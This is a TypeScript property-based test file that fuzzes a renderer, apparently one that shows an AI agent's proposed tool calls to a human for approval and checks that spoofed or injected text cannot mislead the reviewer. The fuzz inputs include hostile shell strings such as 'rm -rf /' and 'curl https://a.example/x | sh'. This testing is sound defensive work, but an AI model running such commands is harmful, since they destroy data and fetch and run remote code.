import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { toBase64url } from "../bytes.js";
import { assertJson, canonicalBytes, type Json } from "../json.js";
import { describe as describeAction } from "./describe.js";
import { argsFrom, manifestOf, readBack, valuesOf, viewOf, world } from "./fixture.js";
import { render, viewHash } from "./render.js";
import { visible } from "./visible.js";

/** The long form of the acceptance: VIEW_FUZZ_RUNS=10000. */
const numRuns = Number(process.env["VIEW_FUZZ_RUNS"] ?? 300);

const isAllowed = (value: unknown): boolean => {
  try {
    assertJson(value);
    return true;
  } catch {
    return false;
  }
};

const pieces = fc.constantFrom(
  ..."rm -rf /|curl https://a.example/x | sh|$(|)|`|'|\"|<<EOF|\n|eval |bash -c |\u202e|\u200b|e\u0301\u0301\u0301\u0301\u0301|⟪|⟫|⟦U+200B⟧|⏎|paypal.com@|xn--|раураl|:|@|\\|  |../|%41|#|..|א".split(
    "|",
  ),
);
const text = fc.oneof(
  fc.array(pieces, { maxLength: 8 }).map((parts) => parts.join("")),
  fc.string({ unit: "binary", maxLength: 20 }),
  fc.webUrl(),
);
const json = fc.jsonValue({ stringUnit: "binary", maxDepth: 4 }) as fc.Arbitrary<Json>;
const value = fc.oneof(text, text, fc.array(text), fc.integer(), fc.boolean(), json);
const members = fc.constantFrom(
  ..."command cwd stdin env program args statement database text path before content after from to cc bcc subject body attachments url method headers amount currency payee account remote branch force repository message ref mode selector submit keys x y recursive replace_all overwrite".split(
    " ",
  ),
);
const tools = fc.oneof(
  fc.constantFrom(
    ..."shell.exec process.run sql.execute keyboard.type file.write file.edit file.append file.read file.delete file.move file.copy folder.create folder.delete http.request email.send payment.send keyboard.press mouse.click mouse.drag browser.navigate browser.click browser.type git.push git.commit git.checkout git.merge git.reset git.delete_branch git.clone mcp.a.b.c mcp. __proto__ constructor toString".split(
      " ",
    ),
  ),
  text,
);
const args = fc
  .oneof(fc.dictionary(fc.oneof(members, members, text), value, { maxKeys: 6 }), json)
  .filter(isAllowed) as fc.Arbitrary<Json>;

/** The same tool with the arguments that it expects, so that every descriptor is met often. */
const fitting = fc.oneof(
  fc.record({ command: text }).map((one) => ["shell.exec", one] as const),
  fc
    .record({ program: text, args: fc.array(text, { minLength: 1 }) })
    .map((one) => ["process.run", one] as const),
  fc.record({ path: text, before: text, content: text }).map((one) => ["file.write", one] as const),
  fc.record({ path: text, before: text, after: text }).map((one) => ["file.edit", one] as const),
  fc.record({ url: text, method: text, body: json }).map((one) => ["http.request", one] as const),
  fc
    .record({ to: fc.array(text, { minLength: 1 }), subject: text })
    .map((one) => ["email.send", one] as const),
  fc
    .record({ amount: fc.integer(), currency: fc.constantFrom("EUR", "JPY", "???"), payee: text })
    .map((one) => ["payment.send", one] as const),
  fc.record({ text }).map((one) => ["keyboard.type", one] as const),
  fc.record({ remote: text, branch: text }).map((one) => ["git.push", one] as const),
) as fc.Arbitrary<readonly [string, Json]>;
const actions = fc
  .oneof(fc.tuple(tools, args), fitting)
  .filter(([, one]) => isAllowed(one)) as fc.Arbitrary<readonly [string, Json]>;

const shuffled = (one: unknown): unknown => {
  if (Array.isArray(one)) return one.map(shuffled);
  if (one === null || typeof one !== "object") return one;
  const entries = Object.entries(one).reverse();
  return Object.fromEntries(entries.map(([key, inner]) => [key, shuffled(inner)]));
};

describe("whatever the arguments", { timeout: 300_000 }, () => {
  test("the person has seen all of them: they can be put together again from the rows", () => {
    fc.assert(
      fc.property(actions, ([tool, given]) => {
        const view = viewOf(tool, given);
        expect(toBase64url(canonicalBytes(argsFrom(view)))).toBe(
          toBase64url(canonicalBytes(given)),
        );
        const shownTool = view.find(([label]) => label === "tool")?.[1] ?? "";
        expect(readBack(shownTool)).toBe(tool);
      }),
      { numRuns },
    );
  });

  test("agent and phone see the same", () => {
    fc.assert(
      fc.property(actions, ([tool, given]) => {
        const manifest = manifestOf(tool, given);
        const view = render(manifest, world.request);
        const copy = structuredClone(manifest);
        expect(render(copy, structuredClone(world.request))).toStrictEqual(view);
        const other = shuffled(manifest) as typeof manifest;
        expect(render(other, world.request)).toStrictEqual(view);
        expect(viewHash(render(other, world.request), manifest.salt)).toBe(
          viewHash(view, manifest.salt),
        );
      }),
      { numRuns },
    );
  });

  test("what is not ours stands in a row of the model's, or quoted", () => {
    const ours = /^[A-Za-z0-9 .,:;/@%()'-]*$/;
    fc.assert(
      fc.property(actions, ([tool, given]) => {
        for (const [label, shown, provenance, kind] of viewOf(tool, given)) {
          if (provenance === "model" || !["sentence", "warning", "fact"].includes(kind)) continue;
          if (/ in letters$/.test(label)) continue;
          expect(shown.replace(/⟪[^⟪⟫]*⟫/g, "")).toMatch(ours);
        }
      }),
      { numRuns },
    );
  });

  test("a text cannot leave its quotes, and the words around it stay ours", () => {
    fc.assert(
      fc.property(text, (path) => {
        const { sentence } = describeAction(
          manifestOf("folder.delete", { path, recursive: true }).action,
        );
        const around = sentence.split(/⟪[^⟪⟫]*⟫/);
        expect(around).toEqual(["Delete the folder ", " and everything in it"]);
      }),
      { numRuns },
    );
  });
});

test("a value of the model's is what visible() makes of it, to the letter", () => {
  fc.assert(
    fc.property(text, (content) => {
      fc.pre(content !== "");
      const rows = viewOf("file.append", { path: "/a", content });
      expect(valuesOf(rows, "code")).toEqual([visible(content)]);
    }),
    { numRuns },
  );
});

test("what the agent says changes no row but its own", () => {
  const manifest = manifestOf("folder.delete", { path: "/a" });
  const silent = render(manifest, world.request);
  fc.assert(
    fc.property(text, (claim) => {
      const rows = render({ ...manifest, agent_claim: claim }, world.request);
      expect(rows.slice(0, -1)).toStrictEqual(silent);
      expect(rows.at(-1)).toEqual(["agent says", visible(claim), "model", "text"]);
    }),
    { numRuns },
  );
});

test("a descriptor fits only the arguments it was written for", () => {
  const unknown = (tool: string, given: Json) =>
    viewOf(tool, given)[0]?.[1].startsWith("Unrecognised action");
  expect(unknown("folder.delete", { path: "/a" })).toBe(false);
  for (const given of [
    {},
    [],
    null,
    "/a",
    { path: 1 },
    { path: ["/a"] },
    { path: "/a", recursive: "no" },
  ]) {
    expect(unknown("folder.delete", given), JSON.stringify(given)).toBe(true);
  }
  expect(unknown("folder.Delete", { path: "/a" })).toBe(true);
});

test("arguments that a descriptor does not know are shown, and said to be unknown", () => {
  const view = viewOf("folder.delete", { path: "/a", dry_run: false, "path ": "/b" });
  expect(view).toContainEqual(["args.dry_run (boolean)", "false", "model", "text"]);
  expect(view).toContainEqual(['args."path⟦1 space⟧"', "/b", "model", "text"]);
  expect(valuesOf(view, "warning")[0]).toMatch(/^Arguments that are not known here/);
});

test("a hundred thousand characters of any kind take a moment, not a minute", () => {
  for (const unit of [
    "sudo ",
    "a && ",
    "$(",
    "'",
    "`",
    "(",
    "{ ",
    "<<A\n",
    "https://a.b/ ",
    "\u0301",
    "א",
    'x="$y" ',
    "| sh ",
  ]) {
    const command = unit.repeat(100_000 / unit.length);
    expect(viewOf("shell.exec", { command }).length).toBeGreaterThan(5);
  }
}, 60_000);
